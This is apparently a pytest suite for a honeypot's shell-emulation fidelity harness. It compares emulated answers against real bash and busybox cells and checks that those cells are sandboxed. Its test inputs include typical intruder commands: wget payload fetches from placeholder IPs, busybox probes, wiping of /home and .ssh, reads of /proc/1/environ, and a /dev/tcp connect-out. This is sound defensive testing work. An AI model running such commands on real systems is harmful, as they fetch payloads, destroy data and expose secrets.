"""The fidelity harness: its rules, its cells, and our own lines in real shells and in the machine."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "bench"))

from fidelity import exclusion, syntax  # noqa: E402
from fidelity.captures import Captures  # noqa: E402
from fidelity.causes import cause  # noqa: E402
from fidelity.compare import Compared, equal_to, figures  # noqa: E402
from fidelity.facts import FactsError, persona_from  # noqa: E402
from fidelity.lines import Line, read, sides  # noqa: E402
from fidelity.machine import Ours, Trace  # noqa: E402
from fidelity.masking import mask  # noqa: E402
from fidelity.reference import (  # noqa: E402
    KINDS,
    Cells,
    Environment,
    ReferenceError,
    Result,
    Side,
    can_run,
    load,
    persona_from_nothing,
)
from fidelity.report import grouped, write  # noqa: E402
from fidelity.template import fold  # noqa: E402

CACHE = Path("~/.cache/urltrap-fidelity").expanduser()
RECORDED: dict[Side, list[dict[str, Any]]] = json.loads(
    Path(__file__).with_name("fidelity_lines.json").read_text(encoding="utf-8")
)
OWN = [(side, row) for side in KINDS for row in RECORDED[side]]


def answer(stdout: bytes = b"", stderr: bytes = b"", status: int | None = 0, ended: str = "exit") -> Result:
    return Result(stdout, stderr, status, ended)


# ---- templates


def test_lines_that_differ_in_numbers_bytes_and_names_are_one_template() -> None:
    assert fold("/bin/busybox QWERT") == fold("/bin/busybox ZUIOP")
    assert fold(r"echo -e '\x6b\x61' > /.m") == fold(r"echo -e '\x41' > /.nippon")
    assert (
        fold("cd /tmp; wget http://192.0.2.1/a.sh")
        == fold("cd /tmp; wget http://198.51.100.9:81/mips -O x")[
            : len(fold("cd /tmp; wget http://192.0.2.1/a.sh"))
        ]
    )
    assert fold("sleep 5") == fold("sleep 600")


def test_lines_that_run_other_programs_are_other_templates() -> None:
    assert fold("rm -rf x") != fold("cat x")
    assert fold("rm -rf x") != fold("rm -f x")
    assert fold("echo a; echo b") != fold("echo a")


# ---- masking


@pytest.mark.parametrize(
    ("real", "ours"),
    [
        (b"drwx------ 1 root root 4096 Nov 24 05:06 .ssh", b"drwx------  2 root root  40 May 24 17:12 .ssh"),
        (b"[1] 5412\n", b"[1] 87\n"),
        (b"52 bytes copied, 2.9e-05 s, 1.8 MB/s", b"52 bytes copied, 0.0001 s, 520 kB/s"),
        (b"--2026-11-24 05:00:48--  http://a/", b"--2025-01-02 11:12:13--  http://a/"),
        (b"failed: Temporary failure in name resolution.", b"failed: Name or service not known."),
        (b" 05:00:01 up 3 days, 10:02,  0 user", b" 11:00:01 up 14 min,  0 user"),
        (b"up 4 weeks, 1 day, 2 hours, 5 minutes", b"up 1 hour, 14 minutes"),
        (b"/tmp/tmp.x8Kd01aLqP", b"/tmp/tmp.0000000000"),
    ],
)
def test_what_must_differ_is_folded(real: bytes, ours: bytes) -> None:
    assert mask(answer(real), "x", "bash") == mask(answer(ours), "x", "bash")


@pytest.mark.parametrize(
    ("real", "ours"),
    [
        (b"-rw-r--r-- 1 root root 12 May 24 17:12 a", b"-rw-r--r-- 1 root root 13 May 24 17:12 a"),
        (b"-rw-r--r-- 1 root root 12 May 24  2024 a", b"-rw-r--r-- 1 root root 12 May 24  2025 a"),
        (b"uid=0(root)", b"uid=1000(root)"),
        (b"a\n", b"a"),
        (b"bash: line 1: x: command not found", b"bash: x: command not found"),
        (b"1+0 records in", b"2+0 records in"),
    ],
)
def test_everything_else_is_compared(real: bytes, ours: bytes) -> None:
    assert mask(answer(real), "x", "bash") != mask(answer(ours), "x", "bash")


def test_streams_and_status_are_compared_apart() -> None:
    said = mask(answer(b"x", b"", 0), "x", "bash")
    assert said != mask(answer(b"", b"x", 0), "x", "bash")
    assert said != mask(answer(b"x", b"", 1), "x", "bash")
    assert equal_to(answer(b"a\n", b"b\n"), answer(b"b\na\n"), "x", "bash", merged=True)
    assert not equal_to(answer(b"a\n", b"b\n"), answer(b"b\na\n"), "x", "bash", merged=False)


def test_numbers_are_folded_only_for_lines_that_ask_for_the_moments_figures() -> None:
    assert mask(answer(b"Mem: 100 20"), "free -m", "bash") == mask(answer(b"Mem:  99 3"), "free -m", "bash")
    assert mask(answer(b"100"), "echo 100", "bash") != mask(answer(b"99"), "echo 100", "bash")


def test_the_order_of_a_directory_is_folded_only_for_programs_that_show_it() -> None:
    first, second = answer(b"/b\n/a\n"), answer(b"/a\n/b\n")
    assert mask(first, "find / -name x", "bash") == mask(second, "find / -name x", "bash")
    assert mask(first, "ls", "bash") != mask(second, "ls", "bash")


def test_which_applets_a_busybox_has_is_folded_but_not_how_it_lists_them() -> None:
    names = [f"n{number:02d}abcd" for number in range(64)]

    def listing(words: list[str], each_row: int) -> bytes:
        rows = [", ".join(words[at : at + each_row]) for at in range(0, len(words), each_row)]
        return ("Usage: busybox\n\nCurrently defined functions:\n\t" + ",\n\t".join(rows) + "\n").encode()

    listed, fewer, narrow = listing(names, 8), listing(names[:-9], 8), listing(names, 7)
    assert mask(answer(listed), "busybox", "ash") == mask(answer(fewer), "busybox", "ash")
    assert mask(answer(listed), "busybox", "ash") != mask(answer(narrow), "busybox", "ash")
    assert mask(answer(listed), "busybox", "bash") != mask(answer(fewer), "busybox", "bash")


def test_of_a_programs_bytes_only_the_header_is_compared() -> None:
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00"
    first, second = header + b"a" * 5000, header + b"b" * 9000
    assert mask(answer(first), "cat /bin/ls", "bash") == mask(answer(second), "cat /bin/ls", "bash")
    other = header[:18] + b"\x08\x00" + b"a" * 5000
    assert mask(answer(first), "cat /bin/ls", "bash") != mask(answer(other), "cat /bin/ls", "bash")


# ---- what is left out


@pytest.mark.parametrize(
    "line", ["ps aux", "cd /; /bin/ps", "x=$(pgrep a)", "ls | xargs kill; w", "sudo dmesg", "dd of=/dev/sda"]
)
def test_lines_about_what_a_cell_has_not_are_left_out(line: str) -> None:
    assert exclusion.before(line) is not None


@pytest.mark.parametrize(
    "line", ["echo ps", "cat /proc/mounts", "ls /top", "cd /service", "wget http://a/ps"]
)
def test_lines_that_only_mention_it_are_not(line: str) -> None:
    assert exclusion.before(line) is None


def test_lines_without_end_and_lines_of_chance_are_left_out() -> None:
    good = answer(b"1")
    assert exclusion.after("x", "bash", good, good) is None
    assert exclusion.after("x", "bash", answer(b"1", ended="wall"), good) is not None
    assert exclusion.after("x", "bash", good, answer(b"2")) is not None
    assert exclusion.after("x", "bash", answer(status=None), good) is not None


# ---- input


def test_a_line_that_appears_twice_counts_once_with_both_weights(tmp_path: Path) -> None:
    rows = [
        {"text": "uname", "kind": "cowrie", "n": 2},
        {"text": "uname", "kind": "adb", "n": 3},
        {"text": "uname ; id", "kind": "session-joined", "n": 9},
    ]
    path = tmp_path / "commands.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    assert read(path) == [Line("uname", 5, "adb")]


def test_lines_for_devices_are_tried_on_both_machines() -> None:
    assert sides(Line("/bin/busybox ECCHI", 1, "cowrie")) == ("bash", "ash")
    assert sides(Line("enable", 1, "cowrie")) == ("bash", "ash")
    assert sides(Line("uname -a", 1, "cowrie")) == ("bash",)


# ---- causes and figures


def test_the_cause_names_the_program_that_wrote_the_first_differing_line() -> None:
    trace = Trace(programs=[("id", "ran", 0), ("ls", "ran", 0)], writers=[(1, 5, "id"), (1, 4, "ls")])
    found = cause("id; ls", "bash", answer(b"root\nab\n"), answer(b"root\nxy\n"), trace)
    assert found is not None
    assert (found.group, found.where, found.expected, found.got) == ("bash | ls", "stdout", "ab", "xy")


def test_the_cause_of_a_message_is_the_program_that_the_real_machine_heard() -> None:
    trace = Trace(programs=[("rm", "ran", 1)])
    found = cause("rm x", "bash", answer(b"", b"rm: cannot remove 'x'\n", 1), answer(b"", b"", 1), trace)
    assert found is not None and found.group == "bash | rm" and found.where == "stderr"


def test_unwritten_and_unknown_programs_and_crashes_are_causes_of_their_own() -> None:
    unwritten = Trace(programs=[("/usr/bin/awk", "not-implemented", 139)])
    found = cause("awk 1", "bash", answer(b"1"), answer(), unwritten)
    assert found is not None and found.group == "bash | not implemented: awk"
    missing = answer(b"", b"bash: line 1: bc: command not found\n", 127)
    found = cause("bc", "bash", answer(b"1"), missing, Trace(programs=[("bc", "not-found", 127)]))
    assert found is not None and found.group == "bash | missing program: bc"
    crashed = Trace(crashes=[("tr", "Traceback\nValueError: x")])
    found = cause("tr a b", "bash", answer(b"1"), answer(), crashed)
    assert found is not None and found.group == "bash | crash in tr: ValueError: x"


def test_an_equal_answer_has_no_cause() -> None:
    assert cause("x", "bash", answer(b"a"), answer(b"a"), Trace()) is None
    assert cause("x", "bash", answer(b"a"), answer(b"a", ended="wall"), Trace()) is not None


def test_syntax_is_judged_by_the_lines_that_either_shell_refuses() -> None:
    refused = Compared("bash", "(", 1, "(", None, None, (b"syntax error",), True)
    accepted_by_us = Compared("bash", ")", 1, ")", None, None, (b"syntax error",), False)
    found = figures([refused, accepted_by_us, row("echo", 1, True, "E")])
    assert (found.syntax_compared, found.syntax) == (2, 50.0)


def test_the_persona_claims_what_the_cell_shows() -> None:
    parts = (
        "6.1.0-9\n#1 SMP x\nx86_64\n",
        "processor\t: 0\nvendor_id\t: AuthenticAMD\nmodel name\t: AMD Test\ncpu MHz\t\t: 2000.5\ncache size\t: 512 KB\n"
        "physical id\t: 0\nbogomips\t: 4001.00\naddress sizes\t: 48 bits physical, 47 bits virtual\n\n",
        "MemTotal: 1000 kB\nMemFree: 400 kB\nBuffers: 10 kB\nCached: 50 kB\nShmem: 5 kB\nSlab: 40 kB\n"
        "SwapTotal: 0 kB\n",
        "overlay / overlay rw 0 0\nproc /proc proc rw 0 0\n",
        "Filesystem 1024-blocks Used Available Capacity Mounted on\noverlay 900 300 600 34% /\n",
        "Filesystem Inodes IUsed IFree IUse% Mounted on\noverlay 90 30 60 34% /\n",
        "Linux version 6.1.0-9 (a@b) (gcc 12) #1 SMP x\n",
        "quiet\n",
    )
    persona = persona_from("debian-12", "@@\n".join(parts), 1_800_000_000.0)
    assert (persona.kernel.release, persona.kernel.compiler, persona.cpu.model_name) == (
        "6.1.0-9",
        "gcc 12",
        "AMD Test",
    )
    assert (persona.cpu.l2_kb, persona.cpu.virtual_bits, persona.memory.used_kb) == (512, 47, 500)
    assert (persona.root.source, persona.root.size_kb, persona.root.inodes_used) == ("overlay", 900, 30)
    with pytest.raises(FactsError, match="parts instead of 8"):
        persona_from("debian-12", "nothing", 1_800_000_000.0)


def test_syntax_messages_are_outcomes_and_others_are_not() -> None:
    refused = b"bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `)'\n"
    assert len(syntax.outcome(answer(b"", refused, 2))) == 2
    assert syntax.outcome(answer(b"", b'ash: syntax error: unexpected "("\n', 2))
    assert syntax.outcome(answer(b"", b"bash: line 1: x: command not found\n", 127)) == ()


def row(text: str, weight: int, equal: bool, template: str, excluded: str | None = None) -> Compared:
    why = cause(text, "bash", answer(b"1"), answer(b"2"), Trace())
    return Compared("bash", text, weight, template, excluded, None if equal else why)


def test_a_template_is_equal_where_all_its_lines_are() -> None:
    found = figures([row("a", 6, True, "A"), row("b", 2, False, "A"), row("c", 2, True, "C"),
                     row("d", 90, False, "D", "endless")])  # fmt: skip
    assert (found.templates, found.templates_by_share, found.weighted) == (50.0, 75.0, 80.0)
    assert (found.templates_compared, found.syntax_compared, found.syntax) == (2, 0, 100.0)
    assert found.excluded_weight == 90.0 and found.excluded_templates == pytest.approx(100 / 3)


def test_the_work_list_is_ranked_by_weight_and_shows_control_characters(tmp_path: Path) -> None:
    rows = [row("light \x1b[2J", 1, False, "L"), row("heavy", 50, False, "H")]
    rows[0] = Compared(
        "bash", rows[0].text, 1, "L", None, cause("l", "bash", answer(), answer(b"\x07"), Trace())
    )
    assert grouped(rows)[0][1][0].text == "heavy"
    write(tmp_path / "out.md", rows)
    text = (tmp_path / "out.md").read_text()
    assert "\x1b" not in text and "\\x1b[2J" in text


def test_captures_survive_a_stop_in_the_middle_of_a_record(tmp_path: Path) -> None:
    environment = Environment("bash", tmp_path, persona_from_nothing("debian-12", 1.8e9), "v1")
    captures = Captures(tmp_path, environment)
    captures.put("id", answer(b"\xff"), answer(b"\xff"))
    with captures.path.open("a") as file:
        file.write('{"key": "torn')
    again = Captures(tmp_path, environment)
    assert again.get("id") == (answer(b"\xff"), answer(b"\xff"))
    assert again.get("pwd") is None
    assert "id" not in captures.path.read_text().replace('"stdout"', "")


# ---- our own lines


@pytest.fixture(scope="module")
def machines() -> dict[Side, Ours]:
    return {
        side: Ours(Environment(side, CACHE, persona_from_nothing(kind, 1_800_000_000.0), "recorded"))
        for side, kind in KINDS.items()
    }


@pytest.mark.parametrize(("side", "kept"), OWN, ids=[f"{side}: {kept['line'][:50]}" for side, kept in OWN])
def test_the_machine_answers_as_the_real_shell_was_recorded(
    machines: dict[Side, Ours], side: Side, kept: dict[str, Any]
) -> None:
    real = answer(kept["stdout"].encode(), kept["stderr"].encode(), kept["status"])
    ours, trace = machines[side].run(kept["line"])
    assert cause(kept["line"], side, real, ours, trace) is None


# ---- live


@pytest.fixture(scope="module")
def cells() -> Iterator[dict[Side, Cells]]:
    if can_run():
        pytest.skip(can_run())
    try:
        environments = [load(side, CACHE, build=False) for side in KINDS]
    except ReferenceError as error:
        pytest.skip(str(error))
    made = {
        environment.side: Cells(environment, Ours(environment).shell_env()) for environment in environments
    }
    yield made
    for each in made.values():
        each.close()


def test_a_cell_has_no_interface_but_lo_and_no_way_out(cells: dict[Side, Cells]) -> None:
    assert cells["bash"].run("ls /sys/class/net").stdout == b"lo\n"
    assert cells["bash"].run("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").stdout == b"lo\n"
    refused = cells["bash"].run("exec 3<>/dev/tcp/192.0.2.55/80")
    assert b"Connection refused" in refused.stderr


def test_a_cell_does_not_see_the_host(cells: dict[Side, Cells]) -> None:
    looked = cells["bash"].run(f"ls -d {ROOT} {CACHE}; cat /proc/1/environ; readlink /proc/1/cwd")
    assert looked.stdout == b""
    mounts = cells["bash"].run("cut -d' ' -f2 /proc/mounts").stdout.decode().split()
    assert all(point == "/" or point.startswith(("/proc", "/sys", "/dev")) for point in mounts)
    assert cells["bash"].run("cat /proc/self/uid_map").stdout.split() == [b"0", b"524288", b"65536"]


def test_nothing_persists_in_a_cell(cells: dict[Side, Cells]) -> None:
    wrote = cells["bash"].run("echo x > /etc/canary; rm -rf /home /root/.ssh; cat /etc/canary")
    assert wrote.stdout == b"x\n"
    assert cells["bash"].run("ls /etc/canary; ls -d /home").stdout == b"/home\n"


def test_a_cell_ends_with_its_shell(cells: dict[Side, Cells]) -> None:
    started = cells["bash"].run("(sleep 300 & sleep 300 & sleep 300) & echo gone")
    assert (started.stdout, started.ended) == (b"gone\n", "exit")


@pytest.mark.parametrize("side", sorted(KINDS))
def test_real_shells_still_answer_as_recorded(cells: dict[Side, Cells], side: Side) -> None:
    changed = {}
    for kept in RECORDED[side]:
        real = answer(kept["stdout"].encode(), kept["stderr"].encode(), kept["status"])
        now = cells[side].run(kept["line"])
        if mask(now, kept["line"], side) != mask(real, kept["line"], side):
            changed[kept["line"]] = (real, now)
    assert changed == {}
